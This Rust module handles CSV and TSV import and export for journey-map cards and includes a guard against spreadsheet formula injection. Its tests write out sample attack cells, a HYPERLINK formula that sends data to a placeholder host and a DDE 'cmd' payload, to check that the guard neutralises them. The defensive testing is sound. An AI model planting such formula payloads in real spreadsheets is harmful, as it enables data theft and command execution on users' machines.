//! CSV and TSV: one row per card, a header row naming the columns.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use super::{Builder, ImportError, Imported, MAX_ROWS, Note, bounded, channel};
use crate::model::{Card, Evidence, Flag, LaneKind, Map, Rating};

/// A card field a column can hold.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Field {
    Stage,
    Lane,
    LaneKind,
    Title,
    Notes,
    Channel,
    Owner,
    Nps,
    Csat,
    Ces,
    Reported,
    DropOff,
    MomentOfTruth,
    ExitPoint,
    FailPoint,
    WaitPoint,
    Evidence,
    Image,
    Priority,
    Effort,
    Author,
}

/// A column: the field it holds, its name as written, the names it is recognised by (after
/// lowercasing and dropping spaces, `_` and `-`), and a card's cell in it.
struct Column {
    field: Field,
    name: &'static str,
    aliases: &'static [&'static str],
    value: fn(&Map, &Card) -> String,
}

fn number(n: Option<f32>) -> String {
    n.map(|v| v.to_string()).unwrap_or_default()
}

fn flag(card: &Card, f: Flag) -> String {
    if card.has_flag(f) { "yes" } else { "" }.to_owned()
}

/// Every column, in the order they are written; reading and writing both go by this table.
const COLUMNS: &[Column] = &[
    Column {
        field: Field::Stage,
        name: "stage",
        aliases: &["stage", "phase", "step", "stages"],
        value: |m, c| m.stage(&c.stage).map(|s| s.name.clone()).unwrap_or_default(),
    },
    Column {
        field: Field::Lane,
        name: "lane",
        aliases: &["lane", "row", "swimlane", "type", "layer"],
        value: |m, c| m.lane(&c.lane).map(|l| l.title.clone()).unwrap_or_default(),
    },
    Column {
        field: Field::LaneKind,
        name: "lane_kind",
        aliases: &["lanekind"],
        value: |m, c| m.lane(&c.lane).map(|l| l.kind.key().to_owned()).unwrap_or_default(),
    },
    Column {
        field: Field::Title,
        name: "title",
        aliases: &["title", "card", "touchpoint", "text", "name"],
        value: |_, c| c.title.clone(),
    },
    Column {
        field: Field::Notes,
        name: "notes",
        aliases: &["notes", "note", "description", "comment", "comments", "details"],
        value: |_, c| c.notes.clone(),
    },
    Column {
        field: Field::Channel,
        name: "channel",
        aliases: &["channel", "medium"],
        value: |_, c| c.channel.as_ref().map(|c| c.label().to_owned()).unwrap_or_default(),
    },
    Column {
        field: Field::Owner,
        name: "owner",
        aliases: &["owner", "responsible", "team"],
        value: |_, c| c.owner.clone(),
    },
    Column { field: Field::Nps, name: "nps", aliases: &["nps"], value: |_, c| number(c.metrics.nps) },
    Column { field: Field::Csat, name: "csat", aliases: &["csat"], value: |_, c| number(c.metrics.csat) },
    Column { field: Field::Ces, name: "ces", aliases: &["ces"], value: |_, c| number(c.metrics.ces) },
    Column {
        field: Field::Reported,
        name: "reported",
        aliases: &["reported", "frequency", "painfrequency", "reportedby"],
        value: |_, c| number(c.metrics.pain_frequency),
    },
    Column {
        field: Field::DropOff,
        name: "drop_off",
        aliases: &["dropoff", "dropout", "abandonment"],
        value: |_, c| number(c.metrics.drop_off),
    },
    Column {
        field: Field::MomentOfTruth,
        name: "moment_of_truth",
        aliases: &["momentoftruth", "mot"],
        value: |_, c| flag(c, Flag::MomentOfTruth),
    },
    Column {
        field: Field::ExitPoint,
        name: "exit_point",
        aliases: &["exitpoint", "exit"],
        value: |_, c| flag(c, Flag::ExitPoint),
    },
    Column {
        field: Field::FailPoint,
        name: "fail_point",
        aliases: &["failpoint"],
        value: |_, c| flag(c, Flag::FailPoint),
    },
    Column {
        field: Field::WaitPoint,
        name: "wait_point",
        aliases: &["waitpoint"],
        value: |_, c| flag(c, Flag::WaitPoint),
    },
    Column {
        field: Field::Evidence,
        name: "evidence",
        aliases: &["evidence", "source"],
        value: |_, c| c.evidence.map(|e| e.label().to_owned()).unwrap_or_default(),
    },
    // A picture file, relative to the map's folder (a screenshot of the touchpoint).
    Column {
        field: Field::Image,
        name: "image",
        aliases: &["image", "picture", "photo", "screenshot", "img"],
        value: |_, c| c.image.clone().unwrap_or_default(),
    },
    // How much a card matters (a pain point's severity, an opportunity's priority), and the
    // effort acting on it takes: Low, Medium or High (see `rating`).
    Column {
        field: Field::Priority,
        name: "priority",
        aliases: &[
            "priority",
            "severity",
            "pain",
            "importance",
            "urgency",
            "impact",
            "prioritas",
            "tingkatkeparahan",
            "dringlichkeit",
            "schweregrad",
            "priorität",
            "الأولوية",
            "الخطورة",
            "ความสำคัญ",
            "ความรุนแรง",
        ],
        value: |_, c| c.priority.map(|r| r.label().to_owned()).unwrap_or_default(),
    },
    Column {
        field: Field::Effort,
        name: "effort",
        aliases: &["effort", "cost", "complexity", "upaya", "aufwand", "الجهد", "ความพยายาม"],
        value: |_, c| c.effort.map(|r| r.label().to_owned()).unwrap_or_default(),
    },
    Column {
        field: Field::Author,
        name: "author",
        aliases: &["author", "writtenby", "addedby"],
        value: |_, c| c.author.clone(),
    },
];

/// The words for a rating's steps.
const RATING_WORDS: &[(&str, Rating)] = &[
    ("low", Rating::Low),
    ("l", Rating::Low),
    ("minor", Rating::Low),
    ("rendah", Rating::Low),
    ("niedrig", Rating::Low),
    ("gering", Rating::Low),
    ("منخفض", Rating::Low),
    ("ต่ำ", Rating::Low),
    ("medium", Rating::Medium),
    ("med", Rating::Medium),
    ("m", Rating::Medium),
    ("moderate", Rating::Medium),
    ("sedang", Rating::Medium),
    ("mittel", Rating::Medium),
    ("متوسط", Rating::Medium),
    ("กลาง", Rating::Medium),
    ("high", Rating::High),
    ("h", Rating::High),
    ("major", Rating::High),
    ("critical", Rating::High),
    ("tinggi", Rating::High),
    ("hoch", Rating::High),
    ("عالي", Rating::High),
    ("مرتفع", Rating::High),
    ("สูง", Rating::High),
];

/// A rating as spreadsheets write it: high, medium, low (or h, m, l), in the seed languages too,
/// or a number from 1 to 5 (1 and 2 low, 3 medium, 4 and 5 high).
fn rating(value: &str) -> Option<Rating> {
    let value = value.trim().to_lowercase();
    if let Ok(n) = value.parse::<f32>() {
        return match n {
            n if (1.0..2.5).contains(&n) => Some(Rating::Low),
            n if (2.5..3.5).contains(&n) => Some(Rating::Medium),
            n if (3.5..=5.0).contains(&n) => Some(Rating::High),
            _ => None,
        };
    }
    RATING_WORDS.iter().find(|(w, _)| *w == value).map(|(_, r)| *r)
}

fn normalised(name: &str) -> String {
    name.trim().to_lowercase().chars().filter(|c| !matches!(c, ' ' | '_' | '-')).collect()
}

fn field_named(name: &str) -> Option<Field> {
    let name = normalised(name);
    COLUMNS.iter().find(|c| c.aliases.contains(&name.as_str())).map(|c| c.field)
}

/// The separator a file uses: tab for TSV; otherwise whichever of `,` `;` tab appears most in
/// the header line outside quotes (Excel writes `;` in many European locales).
fn separator(text: &str, tsv: bool) -> u8 {
    if tsv {
        return b'\t';
    }
    let header = text.lines().next().unwrap_or_default();
    let mut counts = [0usize; 3];
    let mut quoted = false;
    for c in header.chars() {
        match c {
            '"' => quoted = !quoted,
            ',' if !quoted => counts[0] += 1,
            ';' if !quoted => counts[1] += 1,
            '\t' if !quoted => counts[2] += 1,
            _ => {}
        }
    }
    let best = (0..3).max_by_key(|&i| (counts[i], usize::from(i == 0))).unwrap_or(0);
    [b',', b';', b'\t'][best]
}

/// Reads a CSV or TSV inventory. `columns` maps fields to header names (`title=Step`) ahead of
/// the guessing.
pub fn read(
    text: &str,
    title: &str,
    columns: &[(String, String)],
    tsv: bool,
) -> Result<Imported, ImportError> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    // A first line `# Title` names the map (spreadsheets exported with a caption); it is left
    // blank, not removed, so the rows keep their line numbers.
    let (named, text) = match text.split_once('\n') {
        Some((first, rest)) if first.trim_start().starts_with('#') => {
            (Some(first.trim_start().trim_start_matches('#').trim().to_owned()), format!("\n{rest}"))
        }
        _ => (None, text.to_owned()),
    };
    let text = text.as_str();
    let title = named.as_deref().filter(|t| !t.is_empty()).unwrap_or(title);
    let mut problems = Vec::new();
    let mut warnings = Vec::new();
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(separator(text, tsv))
        .flexible(true)
        .has_headers(true)
        .from_reader(text.as_bytes());
    let headers = match reader.headers() {
        Ok(h) => h.clone(),
        Err(e) => return Err(ImportError { problems: vec![Note { line: 1, message: e.to_string() }] }),
    };
    // Which field each column holds: named by --columns first, then guessed.
    let mut fields: Vec<Option<Field>> = vec![None; headers.len()];
    for (field_name, header) in columns {
        let Some(field) =
            COLUMNS.iter().find(|c| normalised(c.name) == normalised(field_name)).map(|c| c.field)
        else {
            let known: Vec<&str> = COLUMNS.iter().map(|c| c.name).collect();
            problems.push(Note {
                line: 0,
                message: format!("--columns: no field {field_name:?}; fields are {}", known.join(", ")),
            });
            continue;
        };
        match headers.iter().position(|h| h.trim().eq_ignore_ascii_case(header.trim())) {
            Some(i) => fields[i] = Some(field),
            None => {
                problems.push(Note { line: 1, message: format!("--columns: no column named {header:?}") });
            }
        }
    }
    for (i, header) in headers.iter().enumerate() {
        if fields[i].is_none() {
            let guess = field_named(header).filter(|f| !fields.contains(&Some(*f)));
            fields[i] = guess;
        }
    }
    for needed in [Field::Stage, Field::Title] {
        if !fields.contains(&Some(needed)) {
            let name = COLUMNS.iter().find(|c| c.field == needed).map_or("", |c| c.name);
            problems.push(Note {
                line: 1,
                message: format!(
                    "no {name} column (the header row names the columns: stage, lane, title, ...)"
                ),
            });
        }
    }
    let unknown: Vec<&str> = headers
        .iter()
        .zip(&fields)
        .filter(|(h, f)| f.is_none() && !h.trim().is_empty())
        .map(|(h, _)| h.trim())
        .collect();
    if !unknown.is_empty() {
        warnings.push(Note {
            line: 1,
            message: format!("columns kept in each card's notes: {}", unknown.join(", ")),
        });
    }
    if !problems.is_empty() {
        return Err(ImportError { problems });
    }

    let mut builder = Builder::new(title);
    let mut rows = 0;
    let mut bad_numbers = BTreeSet::new();
    // Rows with cells past the header's last column, which has no name to keep them under.
    let mut overflowing: Vec<usize> = Vec::new();
    for record in reader.records() {
        let record = match record {
            Ok(r) => r,
            Err(e) => {
                let line = e.position().map_or(0, |p| p.line() as usize);
                problems.push(Note { line, message: e.to_string() });
                continue;
            }
        };
        let line = record.position().map_or(0, |p| p.line() as usize);
        if record.iter().all(|v| v.trim().is_empty()) {
            continue;
        }
        if record.iter().skip(headers.len()).any(|v| !v.trim().is_empty()) {
            overflowing.push(line);
        }
        rows += 1;
        if rows > MAX_ROWS {
            problems.push(Note { line, message: format!("more than {MAX_ROWS} rows; split the file") });
            break;
        }
        let value = |field: Field| -> &str {
            unescaped(fields.iter().position(|f| *f == Some(field)).and_then(|i| record.get(i)).unwrap_or(""))
                .trim()
        };
        let (stage, card_title) = (value(Field::Stage), value(Field::Title));
        if stage.is_empty() || card_title.is_empty() {
            let missing = if stage.is_empty() { "stage" } else { "title" };
            problems.push(Note { line, message: format!("the row has no {missing}") });
            continue;
        }
        let stage_id = builder.stage(&bounded(stage, line, "the stage", &mut warnings));
        let lane_name = match value(Field::Lane) {
            "" => "Touchpoints",
            name => name,
        };
        let kind = Some(value(Field::LaneKind))
            .filter(|k| !k.is_empty())
            .and_then(|k| LaneKind::ALL.into_iter().find(|kind| kind.key().eq_ignore_ascii_case(k)));
        let lane_id = builder.lane(&bounded(lane_name, line, "the lane", &mut warnings), kind);
        let title_text = bounded(card_title, line, "the title", &mut warnings);
        let mut notes = bounded(value(Field::Notes), line, "the notes", &mut warnings);
        for (i, header) in headers.iter().enumerate() {
            let extra = unescaped(record.get(i).unwrap_or("")).trim();
            if fields[i].is_none() && !extra.is_empty() && !header.trim().is_empty() {
                if !notes.is_empty() {
                    notes.push('\n');
                }
                let _ = write!(
                    notes,
                    "{}: {}",
                    header.trim(),
                    bounded(extra, line, header.trim(), &mut warnings)
                );
            }
        }
        let mut number = |field: Field| -> Option<f32> {
            let raw = value(field);
            if raw.is_empty() {
                return None;
            }
            let cleaned = raw.trim_end_matches('%').trim().replace(',', ".");
            match cleaned.parse::<f32>() {
                Ok(n) if n.is_finite() => Some(n),
                _ => {
                    bad_numbers.insert((line, raw.to_owned()));
                    None
                }
            }
        };
        let metrics = crate::model::Metrics {
            nps: number(Field::Nps),
            csat: number(Field::Csat),
            ces: number(Field::Ces),
            pain_frequency: number(Field::Reported),
            drop_off: number(Field::DropOff),
        };
        let owner = bounded(value(Field::Owner), line, "the owner", &mut warnings);
        let author = bounded(value(Field::Author), line, "the author", &mut warnings);
        let channel_name = value(Field::Channel).to_owned();
        let evidence =
            Evidence::ALL.into_iter().find(|e| e.label().eq_ignore_ascii_case(value(Field::Evidence)));
        let flags: Vec<Flag> = [
            (Field::MomentOfTruth, Flag::MomentOfTruth),
            (Field::ExitPoint, Flag::ExitPoint),
            (Field::FailPoint, Flag::FailPoint),
            (Field::WaitPoint, Flag::WaitPoint),
        ]
        .into_iter()
        .filter(|(field, _)| is_yes(value(*field)))
        .map(|(_, flag)| flag)
        .collect();
        let image = bounded(value(Field::Image), line, "the image", &mut warnings);
        let mut rated = |field: Field, what: &str| {
            let raw = value(field);
            let rated = rating(raw);
            if rated.is_none() && !raw.is_empty() {
                warnings.push(Note {
                    line,
                    message: format!("{what} {raw:?} is not low, medium, high or 1 to 5; left empty"),
                });
            }
            rated
        };
        let (priority, effort) = (rated(Field::Priority, "the priority"), rated(Field::Effort, "the effort"));
        let card = builder.card(lane_id, stage_id, &title_text);
        card.image = (!image.trim().is_empty()).then(|| image.trim().to_owned());
        card.notes = notes;
        card.metrics = metrics;
        card.owner = owner;
        card.author = author;
        card.channel = channel(&channel_name);
        card.evidence = evidence;
        card.priority = priority;
        card.effort = effort;
        for flag in flags {
            card.set_flag(flag, true);
        }
    }
    for (line, raw) in bad_numbers {
        warnings.push(Note { line, message: format!("{raw:?} is not a number; left empty") });
    }
    if let Some(&first) = overflowing.first() {
        let shown: Vec<String> = overflowing.iter().take(10).map(ToString::to_string).collect();
        let more = overflowing.len().saturating_sub(10);
        let more = if more > 0 { format!(" and {more} more") } else { String::new() };
        warnings.push(Note {
            line: first,
            message: format!(
                "cells past the header's {} columns were left out (lines {}{more}); give them a column name to keep them in the cards' notes",
                headers.len(),
                shown.join(", ")
            ),
        });
    }
    if rows == 0 && problems.is_empty() {
        problems.push(Note { line: 1, message: "no rows below the header".to_owned() });
    }
    if !problems.is_empty() {
        return Err(ImportError { problems });
    }
    let (mut map, lanes_as_named) = builder.finish();
    // What the spreadsheet said beside the title (its notes, and the columns kept in them) is
    // shown on the cards, not hidden in the inspector.
    let with_notes: std::collections::HashSet<_> =
        map.cards.iter().filter(|c| !c.notes.trim().is_empty()).map(|c| c.lane.clone()).collect();
    for lane in &mut map.lanes {
        lane.show_notes = with_notes.contains(&lane.id);
    }
    let invalid = map.validate();
    if !invalid.is_empty() {
        // Metrics out of range (an NPS of 300) are the spreadsheet's mistakes to name.
        return Err(ImportError {
            problems: invalid.into_iter().map(|p| Note { line: 0, message: p.to_string() }).collect(),
        });
    }
    Ok(Imported { map, warnings, lanes_as_named })
}

fn is_yes(value: &str) -> bool {
    matches!(value.trim().to_lowercase().as_str(), "yes" | "y" | "true" | "1" | "x" | "✓" | "ja" | "ya")
}

/// What a spreadsheet reads as the start of a formula: a cell beginning with one of these runs
/// when the file is opened (`=HYPERLINK(...)` sending the sheet's data away).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell starts like a formula, counting apostrophes written before one (so that a
/// text that really starts with `'=` survives the round trip).
fn starts_like_formula(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS) && cell.parse::<f64>().is_err()
}

/// A cell as written: one that a spreadsheet would run as a formula gets a leading apostrophe,
/// which spreadsheets show as text and do not display. Every CSV the program writes passes its
/// cells through here.
pub fn guarded(cell: &str) -> std::borrow::Cow<'_, str> {
    if starts_like_formula(cell) { format!("'{cell}").into() } else { cell.into() }
}

/// A cell as read: the apostrophe [`guarded`] put before a formula's first character comes off.
fn unescaped(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_like_formula(rest) => rest,
        _ => cell,
    }
}

/// The map's cards as CSV (or with another `separator`, tab for TSV) into `out`, one row per
/// card in canonical order, with the columns `read` knows. Cells a spreadsheet would run as
/// formulas are written as text (see [`guarded`]). A failed write is reported, never dropped.
pub fn write_to(map: &Map, separator: u8, out: impl std::io::Write) -> std::io::Result<()> {
    let mut writer = ::csv::WriterBuilder::new().delimiter(separator).from_writer(out);
    writer.write_record(COLUMNS.iter().map(|c| c.name)).map_err(std::io::Error::from)?;
    for card in &map.cards {
        writer
            .write_record(COLUMNS.iter().map(|c| guarded(&(c.value)(map, card)).into_owned()))
            .map_err(std::io::Error::from)?;
    }
    writer.flush()
}

/// The map's cards as CSV text (see [`write_to`]).
pub fn write(map: &Map, separator: u8) -> std::io::Result<String> {
    let mut bytes = Vec::new();
    write_to(map, separator, &mut bytes)?;
    String::from_utf8(bytes).map_err(std::io::Error::other)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_ok(text: &str) -> Imported {
        read(text, "Imported", &[], false).unwrap_or_else(|e| panic!("{:?}", e.problems))
    }

    #[test]
    fn synonyms_quotes_and_unknown_columns() {
        let text = "Phase,Swimlane,Touchpoint,Comment,Channel,Persona\n\
                    Discover,Touchpoints,\"Ad, on social\",\"two\nlines\",Social media,Rina\n\
                    Buy,Pain points,Fee at checkout,,,Rina\n";
        let imported = read_ok(text);
        let map = &imported.map;
        assert_eq!(map.stages.iter().map(|s| s.name.as_str()).collect::<Vec<_>>(), ["Discover", "Buy"]);
        assert_eq!(map.lanes[1].kind, LaneKind::PainPoints);
        let ad = &map.cards[0];
        assert_eq!(ad.title, "Ad, on social");
        assert_eq!(ad.notes, "two\nlines\nPersona: Rina");
        assert_eq!(ad.channel, Some(crate::model::Channel::SocialMedia));
        assert_eq!(imported.warnings[0].message, "columns kept in each card's notes: Persona");
    }

    #[test]
    fn a_bom_and_semicolons_as_excel_writes_them() {
        let text = "\u{feff}Stage;Title;NPS;Drop-off\nKauf;Kasse;42;12,5 %\n";
        let map = read_ok(text).map;
        assert_eq!(map.cards[0].title, "Kasse");
        assert_eq!(map.cards[0].metrics.nps, Some(42.0));
        assert_eq!(map.cards[0].metrics.drop_off, Some(12.5));
    }

    #[test]
    fn every_problem_is_listed_with_its_line() {
        let text = "stage,title\nA,\n,B\nC,D\n";
        let problems = read(text, "x", &[], false).unwrap_err().problems;
        assert_eq!(problems.iter().map(|p| p.line).collect::<Vec<_>>(), [2, 3]);
        assert!(problems[0].message.contains("no title"), "{problems:?}");
        let none = read("name,notes\nA,B\n", "x", &[], false).unwrap_err().problems;
        assert!(none[0].message.starts_with("no stage column"), "{none:?}");
    }

    #[test]
    fn columns_can_be_named_by_hand() {
        let text = "Moment,What happens\nArrive,Door opens\n";
        let columns =
            [("stage".to_owned(), "Moment".to_owned()), ("title".to_owned(), "What happens".to_owned())];
        let map = read(text, "x", &columns, false).unwrap().map;
        assert_eq!((map.stages[0].name.as_str(), map.cards[0].title.as_str()), ("Arrive", "Door opens"));
    }

    #[test]
    fn huge_fields_are_cut_and_too_many_rows_refused() {
        let long = "x".repeat(super::super::MAX_FIELD + 50);
        let imported = read_ok(&format!("stage,title\nA,{long}\n"));
        assert_eq!(imported.map.cards[0].title.chars().count(), super::super::MAX_FIELD);
        assert!(imported.warnings.iter().any(|w| w.message.contains("cut")));
        let mut many = String::from("stage,title\n");
        for i in 0..=MAX_ROWS {
            let _ = writeln!(many, "S,Card {i}");
        }
        let problems = read(&many, "x", &[], false).unwrap_err().problems;
        assert!(problems[0].message.contains("more than 10000 rows"), "{problems:?}");
    }

    #[test]
    fn a_screenshot_column_puts_pictures_on_cards_and_they_come_back_out() {
        let imported =
            read_ok("Stage,Touchpoint,Screenshot\nBuy,Checkout,shots/checkout.png\nBuy,Receipt,\n").map;
        let images: Vec<Option<&str>> = imported.cards.iter().map(|c| c.image.as_deref()).collect();
        assert_eq!(images, vec![Some("shots/checkout.png"), None]);
        let text = write(&imported, b',').unwrap();
        assert!(text.lines().next().unwrap().contains(",image,"), "{text}");
        let back = read_ok(&text).map;
        assert_eq!(back.cards[0].image.as_deref(), Some("shots/checkout.png"));
    }

    #[test]
    fn cells_past_the_header_are_named_once_with_their_lines() {
        let text = "Stage,Title\nArrive,Door\nOrder,Menu,EXTRA1,EXTRA2\nPay,Card\nLeave,Coat,,X\n";
        let imported = read_ok(text);
        assert_eq!(imported.map.cards.len(), 4);
        let said: Vec<&Note> = imported.warnings.iter().filter(|w| w.message.contains("left out")).collect();
        assert_eq!(said.len(), 1, "{:?}", imported.warnings);
        assert_eq!(said[0].line, 3);
        assert!(
            said[0].message.contains("(lines 3, 5)") && said[0].message.contains("2 columns"),
            "{}",
            said[0].message
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_they_were() {
        let mut map = crate::templates::load("ecommerce").unwrap();
        let titles = [
            "=HYPERLINK(\"http://example.invalid/?d=\"&A1)",
            "+1 555 0100",
            "-2+3",
            "@SUM(A1:A9)",
            "'=already quoted",
            "''@twice",
            "\tcmd",
            "it's fine",
        ];
        for (card, title) in map.cards.iter_mut().zip(titles) {
            card.title = title.to_owned();
        }
        map.cards[0].owner = "=cmd|' /C calc'!A0".into();
        map.cards[0].metrics.nps = Some(-12.0);
        let text = write(&map, b',').unwrap();
        let mut reader = ::csv::ReaderBuilder::new().from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(
                    !cell.starts_with(FORMULA_STARTS) || cell.parse::<f64>().is_ok(),
                    "{cell:?} would run in a spreadsheet"
                );
            }
        }
        assert!(text.contains(",-12,"), "numbers stay numbers: {text}");
        let back = read_ok(&text).map;
        let mut read: Vec<&str> = back.cards.iter().map(|c| c.title.as_str()).collect();
        let mut wrote: Vec<&str> = map.cards.iter().map(|c| c.title.trim()).collect();
        read.sort_unstable();
        wrote.sort_unstable();
        assert_eq!(read, wrote);
        assert!(back.cards.iter().any(|c| c.owner == "=cmd|' /C calc'!A0"));
    }

    #[test]
    fn every_template_round_trips_through_a_spreadsheet() {
        for template in crate::templates::ALL {
            let map = crate::templates::load(template.name).unwrap();
            if map.cards.is_empty() {
                continue;
            }
            let back = read_ok(&write(&map, b',').unwrap()).map;
            assert_eq!(back.cards.len(), map.cards.len(), "{}", template.name);
            // Lanes come in the order rows first name them, so cards are matched by what they
            // say, not by position; within a cell the order is kept.
            let described = |m: &Map| -> Vec<String> {
                let mut cards: Vec<String> = m
                    .cards
                    .iter()
                    .map(|c| {
                        let stage = m.stage(&c.stage).map(|s| s.name.clone()).unwrap_or_default();
                        let lane =
                            m.lane(&c.lane).map(|l| format!("{} {:?}", l.title, l.kind)).unwrap_or_default();
                        format!(
                            "{stage} | {lane} | {} | {} | {:?} | {:?} | {:?} | {} | {:?} | {:?}",
                            c.title, c.notes, c.channel, c.metrics, c.flags, c.owner, c.evidence, c.image
                        )
                    })
                    .collect();
                cards.sort();
                cards
            };
            assert_eq!(described(&back), described(&map), "{}", template.name);
            let cells = |m: &Map| -> std::collections::BTreeMap<(String, String), Vec<String>> {
                let mut cells = std::collections::BTreeMap::<_, Vec<String>>::new();
                for c in &m.cards {
                    let stage = m.stage(&c.stage).map(|s| s.name.clone()).unwrap_or_default();
                    let lane = m.lane(&c.lane).map(|l| l.title.clone()).unwrap_or_default();
                    cells.entry((stage, lane)).or_default().push(c.title.clone());
                }
                cells
            };
            assert_eq!(cells(&back), cells(&map), "{}: the order within each cell", template.name);
        }
    }

    #[test]
    fn a_spreadsheet_in_arabic_makes_a_map_that_reads_from_the_right() {
        let arabic = crate::templates::load("b2b-phone-system-ar").unwrap();
        let text = write(&arabic, b',').unwrap();
        let imported = super::super::import(&text, super::super::DataFormat::Csv, "phones", &[]).unwrap();
        assert!(imported.map.direction.is_rtl());
        let english = crate::templates::load("ecommerce").unwrap();
        let text = write(&english, b',').unwrap();
        let imported = super::super::import(&text, super::super::DataFormat::Csv, "shop", &[]).unwrap();
        assert!(!imported.map.direction.is_rtl());
    }

    #[test]
    fn who_added_a_note_in_the_room_goes_out_and_comes_back() {
        let mut map = crate::templates::load("ecommerce").unwrap();
        map.cards[2].author = "Ana Putri".to_owned();
        let written = write(&map, b',').unwrap();
        assert!(written.lines().next().unwrap().ends_with(",author"));
        let back = read_ok(&written).map;
        let authors: Vec<&str> =
            back.cards.iter().map(|c| c.author.as_str()).filter(|a| !a.is_empty()).collect();
        assert_eq!(authors, ["Ana Putri"]);
    }

    /// A writer that takes `room` bytes, then fails as a full disk does.
    struct FullAfter {
        room: usize,
    }

    impl std::io::Write for FullAfter {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            if self.room == 0 {
                return Err(std::io::Error::new(std::io::ErrorKind::StorageFull, "no space left"));
            }
            let n = buf.len().min(self.room);
            self.room -= n;
            Ok(n)
        }

        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn a_write_that_fails_is_reported() {
        let map = crate::templates::load("ecommerce").unwrap();
        let whole = write(&map, b',').unwrap().len();
        for room in [0, 10, whole / 2, whole - 1] {
            let error = write_to(&map, b',', FullAfter { room }).expect_err("the disk filled up");
            assert_eq!(error.kind(), std::io::ErrorKind::StorageFull, "room for {room} bytes");
        }
        write_to(&map, b',', FullAfter { room: whole }).expect("exactly enough room");
    }
}
